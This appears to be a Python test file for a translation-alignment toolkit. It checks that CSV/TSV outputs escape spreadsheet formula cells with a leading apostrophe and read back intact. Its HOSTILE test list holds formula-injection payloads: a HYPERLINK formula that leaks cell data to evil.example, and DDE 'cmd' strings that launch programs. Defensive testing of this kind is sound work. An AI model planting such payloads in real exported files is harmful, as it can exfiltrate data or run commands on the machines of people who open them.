"""Formula injection: every CSV/TSV output meant for a spreadsheet (alignments, QA
reports, pre-translation drafts, glossaries) writes a cell starting with ``=``, ``+``,
``-`` or ``@`` spreadsheet-safe (a leading apostrophe), through the one sanitiser
:func:`align.formats.tsv.escape_cell`, and the toolkit's readers read it back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from align.cli import app
from align.cli.check import write_report
from align.cli.tm import add_file, pretranslate_file
from align.formats.alignment import read_alignment, write_alignment
from align.formats.glossary import read_glossary, write_glossary
from align.formats.tmx.writer import write_tmx
from align.formats.tsv import FORMULA_START, format_rows, write_rows
from align.qa.findings import Finding
from align.types import Alignment, Glossary, Term, TranslationUnit

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-"]

runner = CliRunner()


def _cells(path: Path, delimiter: str, *, plain: bool = False) -> list[str]:
    text = path.read_text(encoding="utf-8")
    rows = ([line.split(delimiter) for line in text.splitlines()] if plain
            else list(csv.reader(io.StringIO(text), delimiter=delimiter)))
    return [c for row in rows for c in row]


def _assert_safe(cells: list[str], *, each: bool = True) -> None:
    formulas = [c for c in cells if c[:1] in tuple(FORMULA_START)]
    assert formulas == []
    assert any(c.startswith("'" + HOSTILE[0]) for c in cells)
    for h in HOSTILE if each else ():  # each hostile text is there, escaped
        assert any(c == "'" + h or c.startswith("'" + h) for c in cells), h


@pytest.mark.parametrize("quoting", ["csv", "none"])
def test_row_writer_escapes_formula_cells(tmp_path: Path, quoting: str) -> None:
    out = tmp_path / "rows.tsv"
    write_rows(out, [("a", h) for h in HOSTILE], quoting=quoting)  # type: ignore[arg-type]
    _assert_safe(_cells(out, "\t", plain=quoting == "none"))
    assert format_rows([("=1",)]) == "'=1\n"


@pytest.mark.parametrize("suffix,delimiter", [(".tsv", "\t"), (".csv", ",")])
def test_alignment_tables_escape_and_read_back(tmp_path: Path, suffix: str,
                                               delimiter: str) -> None:
    al = Alignment.from_pairs([(f"第{i}句。", h) for i, h in enumerate(HOSTILE)])
    out = tmp_path / f"a{suffix}"
    write_alignment(al, out)
    _assert_safe(_cells(out, delimiter))
    back = read_alignment(out)
    assert [t for _, _, t in back.pairs()] == HOSTILE


def test_pair_tsv_output_escapes(tmp_path: Path) -> None:
    zh, en, out = tmp_path / "z.txt", tmp_path / "e.txt", tmp_path / "out.tsv"
    zh.write_text("".join(f"这是第{i}个句子。\n" for i in range(len(HOSTILE))), encoding="utf-8")
    en.write_text("".join(h + "\n" for h in HOSTILE), encoding="utf-8")
    r = runner.invoke(app, ["pair", str(zh), str(en), "--presplit", "-o", str(out)])
    assert r.exit_code == 0, r.output
    _assert_safe(_cells(out, "\t"), each=False)  # the aligner may join sentences


def test_check_csv_report_escapes(tmp_path: Path) -> None:
    findings = [Finding("term-missing", "error", i, f"第{i}句。", h, None, h, {"found": h})
                for i, h in enumerate(HOSTILE)]
    out = tmp_path / "report.csv"
    write_report(findings, out)
    _assert_safe(_cells(out, ","))


def test_pretranslate_tsv_draft_escapes(tmp_path: Path) -> None:
    sources = [f"这是第{i}个句子。" for i in range(len(HOSTILE))]
    tmx, tm, text, out = (tmp_path / "in.tmx", tmp_path / "tm.db", tmp_path / "new.txt",
                          tmp_path / "draft.tsv")
    write_tmx(tmx, [TranslationUnit(s, h) for s, h in zip(sources, HOSTILE, strict=True)])
    add_file(tm, tmx)
    text.write_text("".join(s + "\n" for s in sources), encoding="utf-8")
    pretranslate_file(tm, text, out, presplit=True)
    _assert_safe(_cells(out, "\t"))


@pytest.mark.parametrize("suffix,delimiter", [(".tsv", "\t"), (".csv", ",")])
def test_glossary_tables_escape_and_read_back(tmp_path: Path, suffix: str,
                                              delimiter: str) -> None:
    terms = tuple(Term(f"术语{i}", h, note=h) for i, h in enumerate(HOSTILE))
    out = tmp_path / f"g{suffix}"
    write_glossary(Glossary(terms), out)
    _assert_safe(_cells(out, delimiter, plain=suffix == ".tsv"))
    assert read_glossary(out).terms == terms


def test_terms_cli_glossary_output_escapes(tmp_path: Path) -> None:
    # `align terms -o x.tsv` writes its candidates through the glossary writer.
    al = tmp_path / "al.tsv"
    pairs = [(f"要坚持“新质生产力”第{i}条。", f'We uphold "=HYPERLINK(1)" rule {i}.')
             for i in range(3)]
    write_alignment(Alignment.from_pairs(pairs), al)
    out = tmp_path / "cands.tsv"
    r = runner.invoke(app, ["terms", str(al), "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _cells(out, "\t", plain=True)
    assert [c for c in cells if c[:1] in tuple(FORMULA_START)] == []
    assert "'=HYPERLINK(1)" in cells
    assert read_glossary(out).terms[0].en == "=HYPERLINK(1)"
